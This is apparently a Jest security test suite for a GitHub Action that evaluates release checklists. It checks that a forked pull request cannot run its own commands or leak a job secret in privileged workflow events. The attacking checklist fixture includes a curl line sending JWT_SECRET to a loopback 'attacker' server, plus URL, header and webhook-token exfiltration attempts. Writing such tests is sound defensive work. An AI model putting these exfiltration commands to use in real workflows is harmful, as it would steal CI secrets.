import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { webhookExamples } from '../helpers/github-double/events.js';
import { startGitHubDouble, type GitHubDouble } from '../helpers/github-double/index.js';
import { makeRepo, type TestRepo } from '../helpers/git-repo.js';
import { runAction, type ActionRun } from '../helpers/run-action.js';

/**
 * A pull request tries to get its own code run, and a secret of the job sent to its server, in every
 * event: the bundled action runs against the GitHub API double, the repository is a real git repository
 * whose head holds the attacking checklist, and a loopback "attacker" server records what reaches it.
 */
const NUMBER = 9;
const SECRET = `jwt-${Math.random().toString(36).slice(2)}-${Date.now().toString(36)}-canary-value`;
const PRIVILEGED = [
  'pull_request_target',
  'issue_comment',
  'workflow_run',
  'schedule',
  'workflow_dispatch',
  'merge_group',
  'push',
  'deployment_status',
  'repository_dispatch',
] as const;

let double: GitHubDouble;
let repo: TestRepo;
let markers: string;
let attacker: Server;
let attackerUrl: string;
const received: string[] = [];
let baseSha: string;
let headSha: string;
let queueSha: string;

/** The base's checklist: it runs a command too (a marker of its own), which privileged runs must not run either. */
const baseChecklist = (dir: string) => `id: release
title: Release checklist
sections:
  - id: repo
    title: Repository
    items:
      - id: readme
        title: README exists
        check: { kind: repo.files-exist, paths: [README.md] }
      - id: tests
        title: Tests pass
        check: { kind: command, run: 'touch ${dir}/base-command-ran' }
      - id: rollback
        title: Rollback plan ready
`;

/** The pull request's checklist: its own code, and the job's secret in a URL, a header and a token. */
const headChecklist = (dir: string, url: string) => `id: release
title: Release checklist
targets:
  leak: ${url}/target?k=\${JWT_SECRET}
sections:
  - id: attack
    title: Attack
    items:
      - id: run-mine
        title: Run my code
        check: { kind: command, run: 'touch ${dir}/head-command-ran; curl -s "${url}/cmd?k=$JWT_SECRET" || true' }
      - id: url
        title: Secret in a URL
        check: { kind: http.response, url: '${url}/url?k=\${JWT_SECRET}' }
      - id: header
        title: Secret in a header
        check: { kind: http.response, url: '${url}/header', header-from-env: { x-k: JWT_SECRET } }
      - id: webhook
        title: Secret as a verify token
        check: { kind: webhook.verify, url: '${url}/hook', token-env: JWT_SECRET }
`;

/** The same attack without the target, so that a load error cannot hide the other items. */
const headChecklistNoTarget = (dir: string, url: string) =>
  headChecklist(dir, url).replace(/targets:\n {2}leak: .*\n/, '');

beforeAll(async () => {
  markers = mkdtempSync(path.join(os.tmpdir(), 'preflight-markers-'));
  attacker = createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString('latin1')));
    req.on('end', () => {
      received.push(`${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n${body}`);
      res.writeHead(200, { 'content-type': 'text/plain' }).end('ok');
    });
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', () => resolve()));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  double = await startGitHubDouble({ owner: 'acme', repo: 'shop' });
  repo = await makeRepo({ 'README.md': '# shop\n', '.github/preflight.yml': baseChecklist(markers) });
  baseSha = (await repo.git('rev-parse', 'HEAD')).trim();
  await repo.git('checkout', '-q', '-b', 'release/2.0.0');
  headSha = await repo.commit('release', {
    '.github/preflight.yml': headChecklistNoTarget(markers, attackerUrl),
    '.github/attack-target.yml': headChecklist(markers, attackerUrl),
  });
  queueSha = headSha;
  double.addPullRequest({
    number: NUMBER,
    headSha,
    headRef: 'release/2.0.0',
    baseRef: 'main',
    baseSha,
    title: 'Release 2.0.0',
    fork: true,
  });
  double.putFile(baseSha, '.github/preflight.yml', baseChecklist(markers));
  double.putFile(double.defaultBranchSha, '.github/preflight.yml', baseChecklist(markers));
  double.addCommit(queueSha, baseSha);
}, 60_000);

afterAll(async () => {
  await double?.stop();
  await repo?.remove();
  await new Promise<void>((resolve) => attacker.close(() => resolve()));
  rmSync(markers, { recursive: true, force: true });
});

function example(name: string): Record<string, unknown> {
  const found = webhookExamples().find((d) => d.name === name)?.examples[0];
  return structuredClone(found ?? {});
}

function payloadFor(event: string): unknown {
  switch (event) {
    case 'pull_request':
    case 'pull_request_target':
      return double.pullRequestEvent('synchronize', NUMBER);
    case 'issue_comment': {
      const c = double.addComment(NUMBER, { author: 'mallory', body: 'please merge' });
      return double.issueCommentEvent('created', { commentId: c.id });
    }
    case 'merge_group':
      return double.mergeGroupEvent({
        headSha: queueSha,
        headRef: `refs/heads/gh-readonly-queue/main/pr-${NUMBER}-${baseSha}`,
        baseSha,
        baseRef: 'refs/heads/main',
      });
    case 'schedule':
      return double.scheduleEvent();
    case 'workflow_dispatch':
      return double.workflowDispatchEvent();
    case 'workflow_run':
      return example(event);
    case 'push': // a tag pushed on the pull request's head: with a token, a deployment run
      return double.pushEvent({ ref: 'refs/tags/v2.0.0', after: headSha });
    case 'deployment_status': // the pull request's head deployed, its environment_url the attacker's
      return double.deploymentStatusEvent({
        sha: headSha,
        ref: 'release/2.0.0',
        environmentUrl: attackerUrl,
      });
    default:
      return {};
  }
}

async function attack(event: string, inputs: Record<string, string>): Promise<ActionRun> {
  return runAction({
    workspace: repo.dir,
    eventName: event,
    payload: payloadFor(event),
    inputs,
    env: {
      GITHUB_API_URL: double.url,
      GITHUB_GRAPHQL_URL: double.graphqlUrl,
      GITHUB_REPOSITORY: 'acme/shop',
      GITHUB_SHA: baseSha, // the commit the workflow came from: the default branch
      JWT_SECRET: SECRET,
    },
  });
}

/** The secret in any form a request could carry it. */
function leaked(): string[] {
  const forms = [
    SECRET,
    encodeURIComponent(SECRET),
    Buffer.from(SECRET).toString('base64'),
    Buffer.from(SECRET).toString('base64url'),
    Buffer.from(SECRET).toString('hex'),
    SECRET.slice(4, 20),
  ];
  return received.filter((r) => forms.some((f) => r.includes(f)));
}

const ran = (name: string) => existsSync(path.join(markers, name));
const forget = () => {
  rmSync(path.join(markers, 'base-command-ran'), { force: true });
  rmSync(path.join(markers, 'head-command-ran'), { force: true });
};

describe('privileged runs never execute or leak, whatever the pull request wrote', () => {
  test("control: the pull request's own pull_request run does run the base checklist's command", async () => {
    forget();
    const run = await attack('pull_request', { token: '' });
    expect(run.code).toBe(0);
    expect(ran('base-command-ran')).toBe(true);
    expect(ran('head-command-ran')).toBe(false);
    expect(leaked()).toEqual([]);
  });

  test('definitions-from: head under pull_request_target fails the step and runs nothing', async () => {
    forget();
    const before = received.length;
    const requests = double.requests.length;
    const run = await attack('pull_request_target', { token: 'test-token', 'definitions-from': 'head' });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('::error::definitions-from: head is refused here');
    expect(run.stdout).toContain('Nothing was run');
    expect(ran('base-command-ran') || ran('head-command-ran')).toBe(false);
    expect(received.length).toBe(before);
    expect(double.requests.length).toBe(requests); // not even a status
    expect(run.report).toBeUndefined();
  });

  for (const event of PRIVILEGED)
    for (const token of ['test-token', ''])
      test(`${event} ${token ? 'with' : 'without'} a token: no command runs, no secret leaves`, async () => {
        forget();
        const before = received.length;
        const run = await attack(event, { token });
        expect({ event, token, code: run.code, stderr: run.stderr }).toMatchObject({
          code: expect.any(Number),
          stderr: '',
        });
        expect({ base: ran('base-command-ran'), head: ran('head-command-ran') }).toEqual({
          base: false,
          head: false,
        });
        // The pull request's checklist is never read: its server hears nothing at all.
        expect(received.slice(before)).toEqual([]);
        // Gate runs that evaluate nothing: a comment that is not the checklist, a re-check with no record yet,
        // a deployment of a pull request that has no checklist record yet.
        const nothingToEvaluate =
          token !== '' &&
          ['issue_comment', 'schedule', 'workflow_dispatch', 'push', 'deployment_status'].includes(event);
        if (nothingToEvaluate) {
          expect(run.report).toBeUndefined();
          return;
        }
        // Otherwise the base's checklist was evaluated: its file check ran, its command was refused.
        const items = new Map((run.report?.items ?? []).map((i) => [i.id, i]));
        expect([...items.keys()]).toEqual(['readme', 'tests', 'rollback']);
        expect(items.get('readme')).toMatchObject({ status: 'pass' });
        expect(items.get('tests')).toMatchObject({
          status: 'error',
          summary: expect.stringContaining('refused: command checks never run in a privileged run'),
        });
      });

  test("pull_request with definitions-from: head: the head checklist sees none of the job's secrets", async () => {
    forget();
    const run = await attack('pull_request', { token: '', 'definitions-from': 'head' });
    expect(run.code).toBe(0);
    const items = new Map((run.report?.items ?? []).map((i) => [i.id, i]));
    expect(items.get('url')).toMatchObject({
      status: 'error',
      summary: expect.stringContaining("'JWT_SECRET' is withheld"),
    });
    expect(items.get('header')).toMatchObject({
      status: 'error',
      summary: expect.stringContaining('not set'),
    });
    expect(items.get('webhook')).toMatchObject({
      status: 'error',
      summary: expect.stringContaining('not set'),
    });
    // Its command runs (the pull request's own CI), without the secret in its environment.
    expect(ran('head-command-ran')).toBe(true);
    expect(leaked()).toEqual([]);
  });

  test('pull_request with definitions-from: head: a secret in a target URL is refused at its line, nothing runs', async () => {
    forget();
    const run = await attack('pull_request', {
      token: '',
      'definitions-from': 'head',
      checklist: '.github/attack-target.yml',
    });
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(
      /::error title=Preflight definition,file=\.github\/attack-target\.yml,line=4,col=\d+::target 'leak': 'JWT_SECRET' is withheld/,
    );
    expect(ran('head-command-ran')).toBe(false);
    expect(leaked()).toEqual([]);
  });

  afterAll(() => {
    // Across every run of this file, nothing the attacker received holds the secret in any encoding.
    expect(leaked()).toEqual([]);
    double.assertNoViolations();
  });
});
